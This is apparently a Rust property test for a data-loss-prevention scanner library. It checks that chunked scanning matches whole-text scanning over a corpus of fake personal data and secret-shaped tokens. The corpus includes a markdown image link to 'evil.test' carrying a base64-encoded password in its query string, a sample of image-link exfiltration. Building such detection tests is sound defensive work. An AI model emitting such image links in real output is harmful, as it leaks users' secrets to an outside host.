//! The law of windows, for all shipped scanners over one soup of what each of them
//! looks for: where one scanner finds nothing, another's text must not confuse it.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test that meets the unexpected must fail"
)]

#[path = "guard/scanners.rs"]
mod scanners;

use std::sync::{Arc, LazyLock};

use alfred_filters::guard::action::Action;
use alfred_filters::guard::canary::Canary;
use alfred_filters::guard::policy::{Policy, Scan, Select, Spec};
use alfred_filters::guard::report::Report;
use alfred_filters::guard::screen::{Desk, Form, Screen, Task};
use alfred_filters::guard::vault::Vault;
use alfred_filters::guard::window::{LEFT_CONTEXT, OPEN};
use alfred_filters::guard::{Confidence, Finding, Window};
use proptest::prelude::*;
use scanners::{KEY, Scanners, scanners};

static SCANNERS: LazyLock<Scanners> = LazyLock::new(scanners);

/// What the scanners look for, pieces of it, and what stands between; `¦` parts them.
const TEXTS: &str = concat!(
    "jane.doe@example.com¦jane@¦@¦.¦,¦:¦ ¦\n¦\n\n¦\t¦\"¦'¦(¦)¦[¦]¦{¦}¦<¦>¦/¦//¦\\¦-¦_¦=¦",
    "==¦!¦?¦&¦#¦%20¦+¦4111 1111 1111 1111¦4111111111111111¦4111-¦1111¦12¦0¦7¦",
    "DE89 3704 0044 0532 0130 00¦GB82WEST12345698765432¦+49 30 901820¦(212) 555-0142¦",
    "phone¦192.0.2.17¦8.8.8.8¦2001:db8::1¦fe80:¦00:1b:44:11:3a:b7¦SSN 078-05-1120¦",
    "born 1980-02-29¦password¦password: ¦secret=¦api_key¦token¦Authorization: Bearer ¦",
    "export ¦-----BEGIN ¦PRIVATE KEY-----¦-----END ¦postgres://user:pa55@db.example.com/x¦",
    "https://example.com/a¦https:¦http¦![a](¦[a](¦]: ¦<img src=¦https://evil.test/?q=¦",
    "![b](https://evil.test/?q=dGhlIHBhc3N3b3JkIG9mIEphbmUgaXMgdHVsaXA0Mg)¦",
    "dGhlIHBhc3N3b3JkIG9mIEphbmUgaXMgdHVsaXA0Mg¦bWFpbCBqYW5lQGV4YW1wbGUuY29tIG5vdw==¦",
    "6d61696c206a616e65406578616d706c652e636f6d¦jane%40example.com¦%41¦9f86d081884c7d659a2feaa0c55ad015a3bf4f1b¦",
    "the quick brown fox¦Acme¦acme corp¦Corp¦MÜLLER¦ag¦EMP-123456¦proj¦abcd¦cd¦é¦日本¦株式会社¦",
    "\u{200b}¦😀¦x¦Zq8¦aB3dE6gH9jK2mN5pQ8rS1tU4vW7xY0zA¦",
);

fn soup() -> Vec<String> {
    let texts = TEXTS.split('¦').filter(|text| !text.is_empty());
    let canary = Canary::word(&KEY, "req_1");
    let secrets = [
        concat!("gh", "p_", "aB3dE6gH9jK2mN5pQ8rS1tU4vW7xY0zA1bC2"),
        concat!("AK", "IA", "Q3EGRZT7HX2MVWNB"),
        concat!("sk", "-", "proj", "-"),
        concat!("xo", "xb-", "123456789012-123456789012-"),
        concat!("ey", "JhbGciOiJIUzI1NiJ9.", "ey", "JzdWIiOiIxIn0."),
    ];
    let all = texts.chain(secrets).chain([canary.as_str()]);
    all.map(str::to_owned).collect()
}

fn boundary(text: &str, at: usize) -> usize {
    (0..=at)
        .rev()
        .find(|at| text.is_char_boundary(*at))
        .unwrap_or_default()
}

/// Scans a text of which only the left context that the law grants is kept.
fn in_pieces(scanner: &dyn Scan, text: &str, cuts: &[usize]) -> Vec<Finding> {
    let (mut out, mut from, mut seen) = (Vec::new(), 0_usize, 0_usize);
    for cut in cuts.iter().copied().chain([text.len()]) {
        let base = boundary(text, from.saturating_sub(LEFT_CONTEXT));
        let window = Window {
            text: &text[base..cut],
            from: from - base,
            last: cut == text.len(),
        };
        let (before, undecided) = (out.len(), from);
        let stirs = from >= seen || scanner.stirs(window, seen - base);
        (seen, from) = (cut, base + scanner.scan(window, &mut out));
        assert!(
            stirs || (from, out.len()) == (undecided, before),
            "who need not be asked has something to say"
        );
        assert!(cut - from <= OPEN, "too much is held");
        for finding in &mut out[before..] {
            finding.span = finding.span.start + base..finding.span.end + base;
        }
    }
    out
}

static POLICY: LazyLock<Policy> = LazyLock::new(|| {
    let scanners = SCANNERS.iter().map(|(_, scanner)| Arc::clone(scanner));
    Policy::new(Spec {
        scanners: scanners.collect(),
        actions: vec![(Select::All, Action::MaskReversible, Confidence::LOW)],
        fail_closed: true,
        ..Spec::default()
    })
    .unwrap()
});

/// What a screen with all scanners lets through of a text in pieces.
fn screened(how: (Form, Task), text: &str, cuts: &[usize]) -> (String, usize) {
    let (mut vault, mut report) = (Vault::new(KEY), Report::default());
    let mut desk = Desk {
        policy: &POLICY,
        vault: &mut vault,
        report: &mut report,
    };
    let (mut screen, mut out, mut from) = (Screen::new(how.0, how.1), String::new(), 0);
    for cut in cuts.iter().copied().chain([text.len()]) {
        screen.push(&mut desk, &text[from..cut], &mut out).unwrap();
        from = cut;
    }
    screen.finish(&mut desk, &mut out).unwrap();
    assert_eq!(report.faults, 0, "a scanner broke its law");
    (out, report.notes.len())
}

fn cuts_of(text: &str, cuts: &[usize]) -> Vec<usize> {
    let mut cuts: Vec<usize> = cuts
        .iter()
        .map(|at| boundary(text, at % (text.len() + 1)))
        .collect();
    cuts.retain(|at| *at < text.len());
    cuts.sort_unstable();
    cuts
}

fn obeys(text: &str, cuts: &[usize]) {
    let cuts = cuts_of(text, cuts);
    for (name, scanner) in SCANNERS.iter() {
        let mut whole = Vec::new();
        scanner.scan(Window::whole(text), &mut whole);
        let pieces = in_pieces(&**scanner, text, &cuts);
        assert_eq!(pieces, whole, "{name} at {cuts:?} of {text:?}");
    }
}

#[test]
fn the_soup_holds_something_for_every_scanner() {
    let text = soup().join(" ");
    for (name, scanner) in SCANNERS.iter() {
        let mut out = Vec::new();
        scanner.scan(Window::whole(&text), &mut out);
        assert!(!out.is_empty(), "{name}");
    }
}

proptest! {

    #[test]
    fn no_scanner_is_confused_by_cuts_of_a_soup(
        parts in proptest::collection::vec(proptest::sample::select(soup()), 0..24),
        cuts in proptest::collection::vec(0_usize..10_000, 0..10),
    ) {
        obeys(&parts.concat(), &cuts);
    }

    #[test]
    fn no_scanner_is_confused_by_cuts_of_words(
        parts in proptest::collection::vec(proptest::sample::select(soup()), 0..24),
        cuts in proptest::collection::vec(0_usize..10_000, 0..10),
    ) {
        obeys(&parts.join(" "), &cuts);
    }

    #[test]
    fn no_screen_is_confused_by_cuts(
        parts in proptest::collection::vec(proptest::sample::select(soup()), 0..24),
        cuts in proptest::collection::vec(0_usize..10_000, 0..10),
        between in proptest::sample::select(vec!["", " "]),
        form in proptest::sample::select(vec![Form::Text, Form::Json]),
        task in proptest::sample::select(vec![Task::Mask, Task::Answer]),
    ) {
        let mut text = parts.join(between);
        if form == Form::Json {
            text = serde_json::to_string(&[text]).unwrap();
        }
        let cuts = cuts_of(&text, &cuts);
        let (whole, notes) = screened((form, task), &text, &[]);
        prop_assert_eq!(screened((form, task), &text, &cuts), (whole.clone(), notes));
        if form == Form::Json {
            let read = serde_json::from_str::<Vec<String>>(&whole);
            prop_assert!(read.is_ok(), "{} became {}", text, whole);
        }
    }
}
